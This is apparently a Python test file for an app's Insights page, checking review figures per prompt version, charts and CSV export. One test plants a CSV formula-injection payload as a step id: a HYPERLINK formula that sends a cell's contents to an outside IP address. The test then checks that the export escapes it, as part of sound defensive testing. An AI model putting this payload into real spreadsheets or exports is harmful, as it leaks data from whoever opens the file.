"""Insights' "Is the AI getting better?": one workflow's review figures on the page, as tables, the
before/after of a changed prompt, flags and a CSV with the same figures as the service."""

from __future__ import annotations

import csv
import io

from engine.decisions import Approve, Reject
from engine.services import Loopdesk
from tests.engine.test_learning import decide, waiting, with_instruction
from tests.ui.test_insights_archive import insights
from ui.review_figures import before_after_bars, csv_text


def test_a_workflow_s_review_figures_show_per_prompt_version_with_a_csv(service: Loopdesk) -> None:
    own = service.use_template("marketing-social-post", "dana").definition
    decide(service, waiting(service, own.id), Approve())
    decide(service, waiting(service, own.id), Reject(comment="Off brand"))
    service.save_workflow(with_instruction(own, "Write a short post about {{ topic }}."), "dana")
    decide(service, waiting(service, own.id), Approve())

    at = insights("dana")
    assert not [d for d in at.dataframe if "Prompt of version" in d.value.columns]  # nothing until chosen
    at.selectbox(key="insights_review_workflow").set_value(own.id).run()
    assert not at.exception, at.exception
    by_step = next(d.value for d in at.dataframe if "Prompt of version" in d.value.columns)
    assert list(by_step["AI step"]) == ["Draft the post", "Draft the post"]
    assert list(by_step["Prompt of version"]) == [1, 2]
    assert list(by_step["Approved as is"]) == ["50%", "100%"]
    assert list(by_step["AI calls"]) == [2, 1]
    assert list(by_step["Cost per approved task"]) == ["$0.0000", "$0.0000"]  # the demo costs nothing
    assert all(t != "—" and int(t.replace(",", "")) > 0 for t in by_step["Tokens per approved task"])
    reviewers = next(d.value for d in at.dataframe if "Reviewer" in d.value.columns)
    assert list(reviewers["Reviewer"]) == [service.directory.name_of("jamie")]
    said = " ".join(m.value for m in at.markdown)
    assert "approved as is 1 of 2 with the prompt of version 1, 1 of 1 with version 2" in said
    assert "not significant yet" in said
    assert any("faster than their drafts can be read" in w.value for w in at.warning)

    (report,) = service.review_report("dana", own.id)
    rows = list(csv.DictReader(io.StringIO(csv_text(report))))
    assert [(r["ai_step"], r["prompt_version"], r["reviews"]) for r in rows] == [
        ("draft", "1", "2"),
        ("draft", "2", "1"),
    ]
    assert float(rows[0]["approved_as_is_rate"]) == 0.5
    bars = before_after_bars(report["before_after"]["draft"])
    assert [(b["Prompt"], b["Approved as is (%)"]) for b in bars] == [
        ("version 1 (2 reviews)", 50.0),
        ("version 2 (1 review)", 100.0),
    ]
    assert [c for c in at.get("arrow_vega_lite_chart")] or [c for c in at.get("vega_lite_chart")]  # drawn


def test_a_step_id_that_looks_like_a_formula_is_inert_in_the_csv(service: Loopdesk) -> None:
    """The attack: an AI step id `=HYPERLINK(...)` became a live cell in Insights → Download as CSV."""
    own = service.use_template("marketing-social-post", "dana").definition
    evil = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"Open")'
    renamed = own.model_copy(
        update={
            "nodes": [n.model_copy(update={"id": evil}) if n.id == "draft" else n for n in own.nodes],
            "edges": [
                e.model_copy(update={"source": evil if e.source == "draft" else e.source,
                                     "target": evil if e.target == "draft" else e.target})
                for e in own.edges
            ],
        }
    )  # fmt: skip
    service.save_workflow(renamed, "dana")
    decide(service, waiting(service, own.id), Approve())
    (report,) = service.review_report("dana", own.id)
    text = csv_text(report)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["ai_step"] for r in rows] == ["'" + evil]  # a leading ' : shown as text, never run
    for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_formula_start_is_neutralised() -> None:
    from engine.csv_export import csv_text as export_csv

    rows = [{"a": "=1+1", "b": "+SUM(A1)", "c": "-2+3", "d": "@cmd", "e": "\tx", "f": "\rx", "g": -2.5}]
    out = list(csv.DictReader(io.StringIO(export_csv(rows))))
    assert out == [{"a": "'=1+1", "b": "'+SUM(A1)", "c": "'-2+3", "d": "'@cmd", "e": "'\tx", "f": "'\rx",
                    "g": "-2.5"}]  # fmt: skip


def test_tables_offer_no_unsafe_csv_download_of_their_own() -> None:
    """Tables show text anyone may type (run titles, step names); Streamlit's built-in table download
    would export it raw, so it is off and the app's own CSV downloads (neutralised) are the way."""
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
